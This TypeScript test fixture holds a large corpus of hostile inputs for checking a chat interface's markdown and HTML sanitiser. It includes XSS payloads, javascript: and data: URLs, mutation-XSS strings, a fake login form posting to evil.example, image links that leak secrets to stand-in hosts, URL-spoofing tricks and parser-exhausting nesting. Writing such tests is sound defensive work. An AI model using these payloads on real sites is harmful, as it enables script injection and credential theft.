/** A text that means harm. */
export interface Hostile {
  readonly text: string;
  /** What must still be seen in the end; by default every letter of the text, at every prefix. */
  readonly seen?: string;
}

/** The place that the tests let images be loaded from: nothing in these texts is there. */
export const TRUSTED = 'https://trusted.example/pictures/';

const html = (...texts: string[]): Hostile[] => texts.map((text) => ({ text }));

/** Script, in all the places that HTML has for it. */
const script = html(
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  'a <script>alert(1)</script> b',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/i.png">',
  '<img srcset="https://evil.example/i.png 2x">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>text</details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src="https://evil.example/a.mp3" autoplay></audio>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/o.swf"></object>',
  '<embed src="https://evil.example/e.swf">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://evil.example" ping="https://evil.example/ping">x</a>',
  '<div style="background:url(https://evil.example/b.png)">x</div>',
  '<x-element onclick=alert(1) tabindex=0 autofocus>x</x-element>',
);

/** Forms, styles, frames and names that take over the page around the answer. */
const takeover = html(
  '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
  '<input type=image src="https://evil.example/i.png">',
  '<button popovertarget=x>x</button><div popover id=x>y</div>',
  '<dialog open>Your session has ended</dialog>',
  '<textarea autofocus>x</textarea>',
  '<select><option>x</select>',
  '<style>@import "https://evil.example/s.css"; body { display: none }</style>',
  '<link rel=stylesheet href="https://evil.example/s.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<slot name=composer>x</slot><div slot=composer part=send>y</div>',
  '<div role=alert aria-live=assertive>x</div>',
  '<a id=location name=document>x</a><a id=location>y</a>',
  '<form id=attributes><input name=attributes><input name=nodeName></form>',
  '<img name=getElementById>',
  '<div class="unloaded-image table-scroll">x</div>',
  '<details open class=send role=alert style=position:fixed onclick=alert(1)>x</details>',
  '<b id=taken name=taken class=send style=position:fixed part=send slot=x tabindex=0 autofocus contenteditable>x</b>',
  '<summary id=attributes>x</summary><mark slot=composer>y</mark><q cite="https://evil.example/q">z</q>',
  '<img name=body><img name=cookie><form name=documentElement><a id=self href=cid:x>y</a>',
  '<iframe name=parent srcdoc=x></iframe><object name=top data=x></object><embed name=opener>',
  '<output role=status>sent</output><meter></meter><progress></progress>',
  '<dialog open><form method=dialog><button formaction="javascript:alert(1)">OK</button></form></dialog>',
  '<fencedframe src="https://evil.example"></fencedframe><portal src="https://evil.example"></portal>',
  '<x-evil shadowrootmode=open><template shadowrootmode=open><slot></slot></template></x-evil>',
  '<button command=show-modal commandfor=x>x</button><button interesttarget=y>y</button>',
  '<chat-stream base-url="https://evil.example"></chat-stream><chat-stream-composer>x</chat-stream-composer>',
  '<button class="unloaded-image" data-address="https://evil.example/i.png">x</button>',
  '<p id=taken name=taken title=x style="position:fixed" role=alert aria-live=assertive slot=x data-x=y>x</p>',
  '<a href="https://evil.example" id=taken name=taken class=send target=_self accesskey=s>x</a>',
  '<table id=taken background="https://evil.example/b.png" summary=x><td colspan=9 width=9999>x</td></table>',
);

/** What is left open and would swallow the rest. */
const open = html(
  '<style>',
  '<script>',
  '<template>',
  '<textarea>',
  '<title>',
  '<iframe>',
  '<noscript>',
  '<xmp>',
  '<plaintext>',
  '<select>',
  '<details>',
  '<details><summary>more',
  '<b><details><summary><i>more',
  '> <details>',
  '- <details>',
  'word <details>',
  '<table><details>',
  '<svg><style>',
  '<math><annotation-xml>',
  '<noembed>',
  '<noframes>',
  '<frameset>',
  '<object>',
  '<video>',
  '<canvas>',
  '<dialog>',
  '<ins hidden>',
  '<mark style="display:none">',
  '<small><sub><sup>',
  '<q',
  '</b',
  '<details open',
  '<!-- comment',
  '<![CDATA[ x',
  '<? x',
  '<!DOCTYPE x',
  'word <b title="',
  'word <!-- comment',
  '<div\n\n',
);

/** Texts that change their meaning when they are parsed twice. */
const mutation = html(
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template></s></template>',
  '<a title="<!--"><img src=x onerror=alert(1)>-->',
  '<pre>**<img src=x onerror=alert(1)>**</pre> <img src=x onerror=alert(1)>',
  'a <pre>b <code><img src=x onerror=alert(1)></code></pre>',
  '`<img src=x onerror=alert(1)>`',
  '    <img src=x onerror=alert(1)>',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  '# <img src=x onerror=alert(1)>',
);

/** Markdown of its own. */
const markdown: Hostile[] = [
  { text: '[click](javascript:alert(1))', seen: 'click' },
  { text: '[click](JaVaScRiPt:alert(1))', seen: 'click' },
  { text: '[click](java\\script:alert(1))', seen: 'click' },
  { text: '[click](&#106;avascript:alert(1))', seen: 'click' },
  { text: '[click](javascript&colon;alert(1))', seen: 'click' },
  { text: '[click](java&Tab;script:alert(1))', seen: 'click' },
  { text: '[click](<\u0001javascript:alert(1)>)', seen: 'click' },
  { text: '[click](data:text/html;base64,PHNjcmlwdD4=)', seen: 'click' },
  { text: '[click](vbscript:msgbox)', seen: 'click' },
  { text: '[click](blob:https://evil.example/x)', seen: 'click' },
  { text: '[click](file:///etc/passwd)', seen: 'click' },
  { text: '[click](/api/chat/generate?sessionId=1)', seen: 'click' },
  { text: '[click](//evil.example/x)', seen: 'click' },
  { text: '[click](/\\evil.example/x)', seen: 'click' },
  { text: '[click](\\\\\\\\evil.example/x)', seen: 'click' },
  { text: '[click](https://trusted.example@evil.example/)', seen: 'click' },
  { text: '<javascript:alert(1)>' },
  { text: '[click][x]\n\n[x]: javascript:alert(1)', seen: 'click' },
  { text: '[x]: javascript:alert(1)\n\n[click][x]', seen: 'click' },
  { text: '[click](https://ok.example "\\" onclick=alert(1) x=\\"")', seen: 'click' },
  { text: '[click](https://ok.example/"onmouseover="alert(1))', seen: 'click' },
  { text: '[<img src=x onerror=alert(1)>](https://ok.example)', seen: '<img src=x onerror=alert(1)>' },
  { text: '![picture](/api/chat/generate?sessionId=1)', seen: 'picture' },
  { text: '![picture](https://evil.example/i.png?secret)', seen: 'picture' },
  { text: '![picture](javascript:alert(1))', seen: 'picture' },
  { text: '![picture](x" onerror="alert(1))', seen: 'picture' },
  { text: '!["onerror="alert(1)](https://evil.example/i.png)', seen: '"onerror="alert(1)' },
  { text: '![<img src=x onerror=alert(1)>](x)', seen: '<img src=x onerror=alert(1)>' },
  { text: '![picture][i]\n\n[i]: https://evil.example/i.png?long=address', seen: 'picture' },
  { text: '`![picture](https://evil.example/i.png)', seen: 'picture' },
  { text: '- [x] <img src=x onerror=alert(1)>', seen: '<img src=x onerror=alert(1)>' },
  { text: '``` <img src=x onerror=alert(1)>\ncode\n```', seen: '' },
  { text: '```"><img/src=x/onerror=alert(1)>\ncode\n```', seen: 'code' },
  { text: '```x" onclick="alert(1)\ncode\n```', seen: 'code' },
  { text: '``` language-x unloaded-image\ncode\n```', seen: 'code' },
  { text: '&lt;img src=x onerror=alert(1)&gt;', seen: '<img src=x onerror=alert(1)>' },
  { text: '&#60;script&#62;alert(1)&#60;/script&#62;', seen: '<script>alert(1)</script>' },
  { text: '__proto__ [__proto__] [constructor]\n\n[__proto__]: https://ok.example', seen: 'proto constructor' },
  { text: '\u202Egnp.exe \u{E0061}\u{E0062}', seen: 'gnp exe' },
  { text: 'https://evil.example/a<script>alert(1)</script>' },
  { text: 'www.evil.example/"onclick="alert(1)' },
];

/** Texts that cost the parser much, or its stack. */
const deep: Hostile[] = [
  { text: `${'> '.repeat(5000)}deep`, seen: 'deep' },
  { text: `${'- '.repeat(5000)}deep`, seen: 'deep' },
  { text: `${'1. > '.repeat(1000)}deep`, seen: 'deep' },
  { text: `${Array.from({ length: 40 }, (_, index) => `${'>'.repeat(40 - index)}deep`).join('\n')}\nend`, seen: 'end' },
  { text: `${'['.repeat(1500)}deep${']'.repeat(1500)}`, seen: 'deep' },
  { text: `${'!['.repeat(500)}deep${'](x)'.repeat(500)}`, seen: 'deep' },
  { text: `${'*a **b '.repeat(300)}deep`, seen: 'deep' },
  { text: `${'*a **b '.repeat(300)}deep${' b** a*'.repeat(300)}`, seen: 'deep' },
  { text: `${'<b>'.repeat(1500)}deep`, seen: 'deep' },
  { text: `a ${'`'.repeat(1500)}deep`, seen: 'deep' },
  { text: `|${'a|'.repeat(500)}\n|${'-|'.repeat(500)}\n|deep|`, seen: 'deep' },
];

/** Addresses that no link and no image may have. */
const addresses: readonly string[] = [
  ...[`${location.origin}/api/chat/generate?sessionId=1`, location.origin],
  ...['javascript:alert(1)', 'JAVASCRIPT:alert(1)', 'javascript://ok.example/%0aalert(1)', 'javascript:/**/alert(1)'],
  ...[
    '&#x6A;avascript:alert(1)',
    '&#0000106avascript:alert(1)',
    'java&NewLine;script:alert(1)',
    'java&#9;script:alert(1)',
  ],
  ...[
    '&#1;javascript:alert(1)',
    'javascript&#x3A;alert(1)',
    '&#x6a&#x61;vascript:alert(1)',
    'java\u00ADscript:alert(1)',
  ],
  ...['feed:javascript:alert(1)', 'view-source:javascript:alert(1)', 'jar:javascript:alert(1)', 'livescript:alert(1)'],
  ...[
    'data:text/html,<script>alert(1)</script>',
    'data:image/svg+xml,<svg/onload=alert(1)>',
    'data:,x',
    'DATA:text/html,x',
  ],
  ...['vbscript:msgbox(1)', 'mocha:alert(1)', 'file:///etc/passwd', 'filesystem:https://ok.example/x', 'about:blank'],
  ...[
    'blob:https://ok.example/x',
    'cid:x',
    'ws://evil.example',
    'intent://evil.example',
    'ms-word:x',
    'chrome://settings',
  ],
  ...[
    '//evil.example/x',
    '///evil.example/x',
    '\\\\evil.example/x',
    '/\\evil.example',
    '/api/chat/generate?sessionId=1',
  ],
  ...['?sessionId=1', '#send', '.', '../api/chat/generate', '%2fapi', 'https:', 'https://', 'https:///', 'http://[::1'],
  ...[
    'https://ok.example:99999/',
    'https://a b.example/',
    'https://user@evil.example/x',
    'https://:secret@evil.example/x',
  ],
  ...['https://trusted.example@evil.example/pictures/x', 'https://trusted.example:pictures@evil.example/'],
];

/** Each in the places that markdown has for an address. */
const addressed: readonly Hostile[] = addresses.flatMap((address) => [
  { text: `[click](<${address}>)`, seen: 'click' },
  { text: `![picture](<${address}>)`, seen: 'picture' },
  { text: `[click][x] ![picture][x]\n\n[x]: <${address}>`, seen: 'click' },
]);

/** Addresses of images that look as if they were where images may be loaded from. */
const untrusted: readonly Hostile[] = [
  ...['https://trusted.example.evil.example/pictures/x', 'https://evil.example/https://trusted.example/pictures/x'],
  ...['https://trusted.example/pictures', 'https://trusted.example/', 'https://trusted.example/picturesque/x'],
  ...[
    'https://trusted.example/pictures/../x',
    'https://trusted.example/pictures/%2e%2e/x',
    'http://trusted.example/pictures/x',
  ],
  ...['https://trusted.example/pictures/..%2fx', 'https://trusted.example/pictures/%252e%252e%252fx'],
  ...[
    'https://trusted.example/pictures/..;/x',
    'https://trusted.example/pictures/..%5cx',
    'https://trusted.example./pictures/x',
  ],
  ...[
    'https://trusted.example:444/pictures/x',
    'https://trusted.example:80/pictures/x',
    'https://TRUSTED.example/Pictures/x',
  ],
  ...[
    'https://xn--trusted-.example/pictures/x',
    'https://tru\u0455ted.example/pictures/x',
    'https://trusted\u3002example.evil.example/pictures/x',
  ],
  ...['https://trusted.example\\@evil.example/pictures/x', 'https://evil.example\\.trusted.example/pictures/x'],
  ...['https://evil.example?https://trusted.example/pictures/x', 'https://evil.example#@trusted.example/pictures/x'],
  ...['https:trusted.example@evil.example/pictures/x', 'https:\\\\evil.example/trusted.example/pictures/x'],
].flatMap((address) => [
  { text: `![picture](<${address}>)`, seen: 'picture' },
  { text: `[![picture](<${address}>)](https://ok.example)`, seen: 'picture' },
]);

const payloads: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '<style>*{display:none}',
  '<a href="javascript:alert(1)" onclick=alert(1)>x</a>',
  '<svg><script>alert(1)</script>',
  '<b onclick=alert(1) style=display:none>x',
  '<input autofocus onfocus=alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<details ontoggle=alert(1)><summary id=x>y',
];

/** Each wherever markdown has room for raw HTML. */
const placed: readonly Hostile[] = payloads.flatMap((payload) =>
  html(
    ...[`- ${payload}\n- ${payload}`, `1. ${payload}\n\n2. b`, `> ${payload}\n> b`, `> - ${payload}`, `# ${payload}`],
    ...[`${payload}\n===`, `**${payload}**`, `~~_${payload}_~~`, `a\n${payload}\nb`, `- [ ] ${payload}`],
    ...[`\`\`${payload}\`\``, `\`\`\`\n${payload}\n\`\`\``, `~~~\n${payload}`, `    ${payload}`],
    ...[`<div>\n${payload}\n</div>`, `<details>\n${payload}\n</details>`, `<kbd>${payload}</kbd>`, `\\${payload}`],
  ),
);

export const own: readonly Hostile[] = [
  ...[...script, ...takeover, ...open, ...mutation, ...markdown],
  ...[...addressed, ...untrusted, ...placed, ...deep],
];

/** Those of others (test/fixtures/hostile/README.md), as far as they are read as texts: what is an address in them is not seen. */
export async function published(): Promise<Hostile[]> {
  const names = ['bluemonday', 'markdown-it', 'xss-filters'];
  const lists = await Promise.all(
    names.map(async (name) => {
      const response = await fetch(new URL(`../fixtures/hostile/${name}.json`, import.meta.url));
      return (await response.json()) as string[];
    }),
  );
  const hasAddress = /\]\(|\]:|```|~~~/;
  return lists.flat().map((text) => (hasAddress.test(text) ? { text, seen: '' } : { text }));
}
